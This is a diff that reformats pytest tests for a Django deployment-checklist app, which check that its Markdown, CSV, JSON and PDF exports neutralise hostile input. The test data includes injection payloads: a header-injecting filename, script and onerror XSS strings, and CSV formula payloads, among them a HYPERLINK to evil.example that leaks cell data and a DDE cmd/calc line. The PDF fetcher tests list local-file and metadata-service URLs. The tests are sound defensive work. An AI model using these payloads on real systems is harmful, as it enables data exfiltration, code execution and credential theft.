@@ -19,7 +19,12 @@ from deploychecks.runs.models import Deployment, RunItem, RunSubCheck
 from deploychecks.runs.services import add_item_note, change_status, create_deployment
 from tests.history.test_record import manager  # noqa: F401  fixture
 from tests.history.worked import (  # noqa: F401  fixtures
-    client_for, item, record_deployment, small_revision, tick, worked,
+    client_for,
+    item,
+    record_deployment,
+    small_revision,
+    tick,
+    worked,
 )
 
 pytestmark = pytest.mark.django_db
@@ -72,20 +77,25 @@ def test_downloads_are_attachments_with_a_safe_file_name(record_deployment, view
     record_deployment.service = 'pay ments/"evil";\r\nX-Injected: 1'
     record_deployment.version = "../../2.0"
     record_deployment.save(update_fields=["service", "version"])
-    for fmt, content_type in (("md", "text/markdown"), ("csv", "text/csv"),
-                              ("json", "application/json"), ("pdf", "application/pdf")):
+    for fmt, content_type in (
+        ("md", "text/markdown"),
+        ("csv", "text/csv"),
+        ("json", "application/json"),
+        ("pdf", "application/pdf"),
+    ):
         response = _get(viewer, record_deployment, fmt)
         assert response["Content-Type"].startswith(content_type)
         assert response["Content-Disposition"] == (
-            f'attachment; filename="pay-ments-evil-X-Injected-1-2.0-{record_deployment.pk}'
-            f'.{fmt}"')
+            f'attachment; filename="pay-ments-evil-X-Injected-1-2.0-{record_deployment.pk}.{fmt}"'
+        )
         assert "X-Injected" not in response.headers.keys()
 
 
 def test_default_file_name_is_service_version_and_id(worked, viewer):
     response = _get(viewer, worked, "csv")
     assert response["Content-Disposition"] == (
-        f'attachment; filename="billing-api-3.1.0-{worked.pk}.csv"')
+        f'attachment; filename="billing-api-3.1.0-{worked.pk}.csv"'
+    )
     assert "no-store" in response["Cache-Control"]
 
 
@@ -101,11 +111,15 @@ def test_markdown_is_the_checklist_as_ticked_with_who_and_when(worked, viewer):
     assert "- [x] **Backup created** Full database backup\n" in md
     assert "  - [x] Restore tested\n  - [ ] Checksum recorded\n" in md
     assert f"  > ✓ Done by erin at {backup.changed_at:%Y-%m-%d %H:%M:%S} UTC\n" in md
-    assert (f"  > Sub-check “Restore tested” ticked by erin at "
-            f"{restore.changed_at:%Y-%m-%d %H:%M:%S} UTC\n") in md
+    assert (
+        f"  > Sub-check “Restore tested” ticked by erin at "
+        f"{restore.changed_at:%Y-%m-%d %H:%M:%S} UTC\n"
+    ) in md
     assert "  > Note by erin at " in md and ": Backup took 40 minutes\n" in md
-    assert "- [ ] **Freeze announced** (optional)\n  > N/A: No freeze for patches (marked by " \
+    assert (
+        "- [ ] **Freeze announced** (optional)\n  > N/A: No freeze for patches (marked by "
         "Sam Second" in md
+    )
     assert "1. **Migrate** (10 min)\n   - [x] **Run migrations**\n" in md
     assert ": Ran migrations by hand: the job runner was down" in md
     assert "- [ ] **Deploy the release**\n" in md
@@ -117,23 +131,30 @@ def test_markdown_reimports_as_the_same_template(worked, viewer, admin_user, sma
     md = _get(viewer, worked, "md").content.decode()
 
     # The real import path: the import page, saving as a new revision of the template.
-    response = client_for(admin_user).post(reverse("checklists:import"), {
-        "markdown_text": md, "template": small_revision.template_id, "action": "save"})
+    response = client_for(admin_user).post(
+        reverse("checklists:import"),
+        {"markdown_text": md, "template": small_revision.template_id, "action": "save"},
+    )
 
     assert response.status_code == 302, response.content.decode()[:2000]
-    reimported = load_parsed(TemplateRevision.objects.get(template=small_revision.template,
-                                                          number=2))
+    reimported = load_parsed(
+        TemplateRevision.objects.get(template=small_revision.template, number=2)
+    )
     original = load_parsed(small_revision)
     assert [(p.title, p.timing_label) for p in reimported.phases] == [
-        (p.title, p.timing_label) for p in original.phases]
+        (p.title, p.timing_label) for p in original.phases
+    ]
     assert [[(s.title, s.timing_label) for s in p.sections] for p in reimported.phases] == [
-        [(s.title, s.timing_label) for s in p.sections] for p in original.phases]
+        [(s.title, s.timing_label) for s in p.sections] for p in original.phases
+    ]
     assert [(s.number, s.title, s.minutes) for s in reimported.steps()] == [
-        (s.number, s.title, s.minutes) for s in original.steps()]
-    assert [(i.title, i.summary, i.required, [s.title for s in i.subchecks])
-            for i in reimported.items()] == [
-        (i.title, i.summary, i.required, [s.title for s in i.subchecks])
-        for i in original.items()]
+        (s.number, s.title, s.minutes) for s in original.steps()
+    ]
+    assert [
+        (i.title, i.summary, i.required, [s.title for s in i.subchecks]) for i in reimported.items()
+    ] == [
+        (i.title, i.summary, i.required, [s.title for s in i.subchecks]) for i in original.items()
+    ]
     # Details keep the template's text; the run's annotations follow it.
     for new, old in zip(reimported.items(), original.items(), strict=True):
         assert new.details.startswith(old.details)
@@ -141,19 +162,25 @@ def test_markdown_reimports_as_the_same_template(worked, viewer, admin_user, sma
     assert [(c.role, c.person) for c in reimported.contacts] == [("DevOps lead", "Dana")]
 
 
-def test_markdown_annotations_cannot_inject_structure_or_html(record_deployment, engineer,
-                                                              lead, viewer):
+def test_markdown_annotations_cannot_inject_structure_or_html(
+    record_deployment, engineer, lead, viewer
+):
     change_status(deployment_id=record_deployment.pk, to="in_progress", user=lead)
-    add_item_note(deployment_id=record_deployment.pk, user=engineer,
-                  item_id=item(record_deployment, "Backup created").pk,
-                  body=f"first line\n- [ ] **Injected item**\n## Injected phase\n{HOSTILE}")
+    add_item_note(
+        deployment_id=record_deployment.pk,
+        user=engineer,
+        item_id=item(record_deployment, "Backup created").pk,
+        body=f"first line\n- [ ] **Injected item**\n## Injected phase\n{HOSTILE}",
+    )
 
     md = _get(viewer, record_deployment, "md").content.decode()
 
     assert "\n- [ ] **Injected item**" not in md and "\n## Injected phase" not in md
     assert "<script>" not in md and "&lt;script>alert(1)&lt;/script>" in md
-    assert "> Note by erin at " in md and ": first line - \\[ \\] **Injected item** ## Injected " \
-        "phase" in md
+    assert (
+        "> Note by erin at " in md
+        and ": first line - \\[ \\] **Injected item** ## Injected phase" in md
+    )
 
 
 # --- CSV ------------------------------------------------------------------------------
@@ -167,8 +194,7 @@ def _csv_rows(user, deployment) -> list[dict]:
 def test_csv_has_one_row_per_item_and_sub_check_matching_the_database(worked, viewer):
     rows = _csv_rows(viewer, worked)
 
-    items = list(RunItem.objects.filter(deployment=worked).order_by("phase__position",
-                                                                     "position"))
+    items = list(RunItem.objects.filter(deployment=worked).order_by("phase__position", "position"))
     subs = RunSubCheck.objects.filter(item__deployment=worked)
     assert len(rows) == len(items) + subs.count()
     item_rows = [r for r in rows if not r["subcheck"]]
@@ -188,7 +214,11 @@ def test_csv_has_one_row_per_item_and_sub_check_matching_the_database(worked, vi
     restore = next(r for r in rows if r["subcheck"] == "Restore tested")
     sub = subs.get(title="Restore tested")
     assert (restore["item"], restore["state"], restore["changed_by"], restore["changed_at"]) == (
-        "Backup created", "done", "erin", sub.changed_at.isoformat())
+        "Backup created",
+        "done",
+        "erin",
+        sub.changed_at.isoformat(),
+    )
     checksum = next(r for r in rows if r["subcheck"] == "Checksum recorded")
     assert (checksum["state"], checksum["changed_by"]) == ("open", "")
 
@@ -204,22 +234,28 @@ FORMULA_TEMPLATE = """# Formulas
 """
 
 
-def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_defused(db, lead, engineer,
-                                                                        viewer):
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_defused(db, lead, engineer, viewer):
     from deploychecks.checklists.parser import parse_checklist
     from deploychecks.checklists.services import save_template
 
     revision = save_template(parse_checklist(FORMULA_TEMPLATE), source=FORMULA_TEMPLATE)
-    deployment = create_deployment(revision, user=lead, release_name="Formulas", version="1",
-                                   service="svc", lead=lead, engineers=[engineer],
-                                   viewers=[viewer])
+    deployment = create_deployment(
+        revision,
+        user=lead,
+        release_name="Formulas",
+        version="1",
+        service="svc",
+        lead=lead,
+        engineers=[engineer],
+        viewers=[viewer],
+    )
     change_status(deployment_id=deployment.pk, to="in_progress", user=lead)
     tick(deployment, "+1+2", engineer, state="na", reason="=1+1")
 
     rows = _csv_rows(viewer, deployment)
 
     assert rows[0]["phase"] == "'=Phase"
-    assert rows[0]["item"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+    assert rows[0]["item"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
     assert rows[1]["subcheck"] == "'@SUM(A1:A9)"
     assert rows[2]["item"] == "'+1+2" and rows[2]["na_reason"] == "'=1+1"
     assert rows[3]["item"] == "'-cmd|' /C calc'!A0"
@@ -235,35 +271,46 @@ def test_json_holds_the_complete_record_as_in_the_database(worked, viewer):
 
     assert data["schema_version"] == 1
     d = data["deployment"]
-    assert (d["id"], d["release_name"], d["version"], d["previous_version"], d["service"],
-            d["environment"], d["status"]) == (
-        worked.pk, "Autumn release", "3.1.0", "3.0.2", "billing-api", "production",
-        "monitoring")
+    assert (
+        d["id"],
+        d["release_name"],
+        d["version"],
+        d["previous_version"],
+        d["service"],
+        d["environment"],
+        d["status"],
+    ) == (worked.pk, "Autumn release", "3.1.0", "3.0.2", "billing-api", "production", "monitoring")
     assert d["lead"] == {"id": worked.lead_id, "username": "lena", "name": "Lena Lead"}
     assert d["started_at"] == worked.started_at.isoformat()
     assert d["go_live_at"] == worked.go_live_at.isoformat()
     assert d["counts"] == {"total": 7, "done": 3, "na": 1, "open": 3}
     json_items = [i for p in data["phases"] for i in p["items"]]
     db_items = RunItem.objects.filter(deployment=worked).order_by("phase__position", "position")
-    assert [(i["id"], i["title"], i["state"], i["changed_by"], i["na_reason"])
-            for i in json_items] == [
-        (i.pk, i.title, i.state, i.changed_by_name or None, i.na_reason) for i in db_items]
+    assert [
+        (i["id"], i["title"], i["state"], i["changed_by"], i["na_reason"]) for i in json_items
+    ] == [(i.pk, i.title, i.state, i.changed_by_name or None, i.na_reason) for i in db_items]
     backup = next(i for i in json_items if i["title"] == "Backup created")
     assert [(s["title"], s["done"], s["changed_by"]) for s in backup["subchecks"]] == [
-        ("Restore tested", True, "erin"), ("Checksum recorded", False, None)]
+        ("Restore tested", True, "erin"),
+        ("Checksum recorded", False, None),
+    ]
     assert [(n["kind"], n["author"], n["body"]) for n in backup["notes"]] == [
-        ("note", "erin", "Backup took 40 minutes")]
+        ("note", "erin", "Backup took 40 minutes")
+    ]
     migrate = next(i for i in json_items if i["title"] == "Run migrations")
     phase1 = data["phases"][0]
     step = next(s for s in phase1["steps"] if s["id"] == migrate["step_id"])
     section = next(s for s in phase1["sections"] if s["id"] == migrate["section_id"])
     assert (step["title"], step["minutes"], section["title"]) == ("Migrate", 10, "Database")
     assert [(s["role"], s["signer"], s["status"]) for s in data["signoffs"]] == [
-        ("QA Lead", "quinn", "stale"), ("QA Lead", "quinn", "valid")]
+        ("QA Lead", "quinn", "stale"),
+        ("QA Lead", "quinn", "valid"),
+    ]
     assert data["signoff_roles"] == ["QA Lead", "Engineering Manager"]
     error_rate = next(s for s in data["signals"] if s["name"] == "Error rate")
     assert [(r["value"], r["recorded_by"], r["note"]) for r in error_rate["readings"]] == [
-        (2.5, "erin", "spike after deploy")]
+        (2.5, "erin", "spike after deploy")
+    ]
     assert data["verdict_changes"] and data["verdict_changes"][0]["from"] == "none"
     assert len(data["reminders"]) == worked.reminders.count() > 0
     assert data["rollback"] is None
@@ -274,9 +321,10 @@ def test_json_audit_events_carry_their_hashes_and_the_chain_status(worked, viewe
 
     events = list(AuditEvent.objects.filter(deployment=worked).order_by("id"))
     assert data["verified"] is True and data["event_count"] == len(events)
-    assert [(e["id"], e["seq"], e["action"], e["hash"], e["prev_hash"], e["actor"])
-            for e in data["events"]] == [
-        (e.pk, e.seq, e.action, e.hash, e.prev_hash, e.actor_name or None) for e in events]
+    assert [
+        (e["id"], e["seq"], e["action"], e["hash"], e["prev_hash"], e["actor"])
+        for e in data["events"]
+    ] == [(e.pk, e.seq, e.action, e.hash, e.prev_hash, e.actor_name or None) for e in events]
     assert "client_ip" not in data["events"][0]
 
 
@@ -313,8 +361,10 @@ def test_json_matches_its_documented_schema(worked, viewer, engineer, settings):
     change_status(deployment_id=worked.pk, to="rolled_back", user=worked.lead)
     # Never together in real life (an override completes), but every object is documented.
     Deployment.objects.filter(pk=worked.pk).update(
-        completion_override_name="root", completion_override_reason="CTO approved",
-        completion_override_at=timezone.now())
+        completion_override_name="root",
+        completion_override_reason="CTO approved",
+        completion_override_at=timezone.now(),
+    )
     data = _json(viewer, worked)
     docs = (settings.BASE_DIR / "docs" / "export-schema.md").read_text()
 
@@ -346,15 +396,17 @@ def pdf_text(data: bytes) -> str:
                 glyphs.setdefault(int(src, 16), bytes.fromhex(dst.decode()).decode("utf-16-be"))
         for block in re.findall(rb"beginbfrange(.*?)endbfrange", stream, re.S):
             for lo, hi, dst in re.findall(
-                    rb"<([0-9a-fA-F]+)>\s*<([0-9a-fA-F]+)>\s*<([0-9a-fA-F]+)>", block):
+                rb"<([0-9a-fA-F]+)>\s*<([0-9a-fA-F]+)>\s*<([0-9a-fA-F]+)>", block
+            ):
                 for offset in range(int(hi, 16) - int(lo, 16) + 1):
                     glyphs.setdefault(int(lo, 16) + offset, chr(int(dst, 16) + offset))
     lines = []
     for stream in streams:
         for array in re.findall(rb"\[(.*?)\]\s*TJ", stream, re.S):
             hexes = b"".join(re.findall(rb"<([0-9a-fA-F]+)>", array)).decode()
-            lines.append("".join(glyphs.get(int(hexes[i:i + 4], 16), "?")
-                                 for i in range(0, len(hexes), 4)))
+            lines.append(
+                "".join(glyphs.get(int(hexes[i : i + 4], 16), "?") for i in range(0, len(hexes), 4))
+            )
     return "\n".join(lines)
 
 
@@ -371,11 +423,16 @@ def test_pdf_is_a_pdf_with_the_release_outcome_notes_and_na_items(worked, viewer
     assert "quinn" in text and "QA Lead" in text
 
 
-def test_pdf_prints_hostile_text_as_text_and_fetches_nothing(record_deployment, engineer, lead,
-                                                             viewer):
+def test_pdf_prints_hostile_text_as_text_and_fetches_nothing(
+    record_deployment, engineer, lead, viewer
+):
     change_status(deployment_id=record_deployment.pk, to="in_progress", user=lead)
-    add_item_note(deployment_id=record_deployment.pk, body=HOSTILE, user=engineer,
-                  item_id=item(record_deployment, "Backup created").pk)
+    add_item_note(
+        deployment_id=record_deployment.pk,
+        body=HOSTILE,
+        user=engineer,
+        item_id=item(record_deployment, "Backup created").pk,
+    )
 
     content = _get(viewer, record_deployment, "pdf").content
 
@@ -386,18 +443,25 @@ def test_pdf_prints_hostile_text_as_text_and_fetches_nothing(record_deployment, 
 
 def test_pdf_url_fetcher_refuses_everything_but_data_uris():
     fetcher = url_fetcher()
-    for url in ("file:///etc/passwd", "http://169.254.169.254/latest/meta-data/",
-                "https://example.com/x.png", "ftp://example.com/x"):
+    for url in (
+        "file:///etc/passwd",
+        "http://169.254.169.254/latest/meta-data/",
+        "https://example.com/x.png",
+        "ftp://example.com/x",
+    ):
         with pytest.raises(ValueError):
             fetcher(url)
     assert fetcher("data:text/plain;base64,aGk=").read() == b"hi"
 
 
-def test_markdown_csv_and_json_keep_hostile_text_inert(record_deployment, engineer, lead,
-                                                       viewer):
+def test_markdown_csv_and_json_keep_hostile_text_inert(record_deployment, engineer, lead, viewer):
     change_status(deployment_id=record_deployment.pk, to="in_progress", user=lead)
-    add_item_note(deployment_id=record_deployment.pk, body=HOSTILE, user=engineer,
-                  item_id=item(record_deployment, "Backup created").pk)
+    add_item_note(
+        deployment_id=record_deployment.pk,
+        body=HOSTILE,
+        user=engineer,
+        item_id=item(record_deployment, "Backup created").pk,
+    )
 
     md = _get(viewer, record_deployment, "md").content.decode()
     data = _json(viewer, record_deployment)
@@ -406,7 +470,8 @@ def test_markdown_csv_and_json_keep_hostile_text_inert(record_deployment, engine
     assert "<script>" not in md and "<img" not in md
     # The snapshot's template name is user text too: one line, no HTML.
     Deployment.objects.filter(pk=record_deployment.pk).update(
-        template_name="Tpl <img src=x onerror=alert(1)>\n## Injected phase")
+        template_name="Tpl <img src=x onerror=alert(1)>\n## Injected phase"
+    )
     titled = _get(viewer, record_deployment, "md").content.decode()
     assert titled.startswith("# Tpl &lt;img src=x onerror=alert(1)> ## Injected phase\n")
     backup = next(i for p in data["phases"] for i in p["items"] if i["title"] == "Backup created")
@@ -416,7 +481,8 @@ def test_markdown_csv_and_json_keep_hostile_text_inert(record_deployment, engine
 
 
 def test_pdf_without_weasyprint_libraries_answers_503_with_what_to_install(
-        record_deployment, viewer, monkeypatch):
+    record_deployment, viewer, monkeypatch
+):
     # As on a machine without pango: importing WeasyPrint fails.
     monkeypatch.setitem(sys.modules, "weasyprint", None)
 
